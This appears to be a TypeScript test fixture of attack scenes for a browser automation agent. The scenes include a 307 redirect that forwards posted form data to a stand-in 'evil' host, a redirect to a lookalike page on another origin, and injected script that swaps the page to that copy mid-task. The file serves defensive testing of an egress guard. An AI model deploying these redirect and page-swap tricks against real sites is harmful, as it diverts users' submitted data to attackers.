import type { BrowserAttack, StageSetting } from '../browser/browser-attack.ts'
import { EGRESS } from './guards.ts'
import { LOCKED } from './locked-policy.ts'
import { posted, rowOf, type Scene } from './scene.ts'

export const SETTING: StageSetting = { policy: LOCKED }

const SAVED = '<h1>Saved</h1>'
const form = (action: string, script = '') =>
  `<h1>Report</h1><form method=post action="${action}"><label>Note <input name=note></label><button>Save</button></form><script>${script}</script>`
const ACTS = 'fill field "Note" with "it" click button "Save"'
const to = (location: string) => ({ raw: { status: 307, headers: { location } } })

/** The site sends what it was sent on to another. */
const sentOn: Scene = {
  name: 'a form whose own site sends it on to another, under the lock',
  guards: [EGRESS],
  pages: ({ evil }, tricked) => ({
    '/report': form('/go'),
    '/go': to(tricked ? `${evil}/evil` : '/save'),
    '/save': SAVED
  }),
  elsewhere: () => ({ '/evil': SAVED }),
  plan: () => `on s { open "/report" ${ACTS} wait for heading "Saved" up to 3s }`,
  honest: posted('/save')
}

const THREE = 'the origin is looked at as the address opens, as the document is reached, in its token, and at the act'

/** Where the plan comes is another site's page that looks the same. */
const astray = (name: string, lie: (evil: string) => Record<string, string | { redirect: string }>): Scene => ({
  name,
  guards: [],
  unguarded: THREE,
  pages: ({ evil }, tricked) => ({ '/report': form('/save'), '/save': SAVED, ...(tricked && lie(evil)) }),
  elsewhere: () => ({ '/copy': form('/evil'), '/evil': SAVED }),
  plan: () => `on s { open "/report" ${ACTS} wait for heading "Saved" up to 3s }`,
  honest: posted('/save')
})

export const ATTACKS: readonly BrowserAttack[] = [
  sentOn,
  astray('an address that leads to another site, whose page looks the same', (evil) => ({
    '/report': { redirect: `${evil}/copy` }
  })),
  astray('a page that becomes that of another site between two acts', (evil) => ({
    '/report': form(
      '/save',
      `document.querySelector('input').addEventListener('change', () => { location.href = ${JSON.stringify(evil)} + '/copy' })
       document.querySelector('form').addEventListener('submit', (event) => event.preventDefault())`
    )
  }))
].map(rowOf)
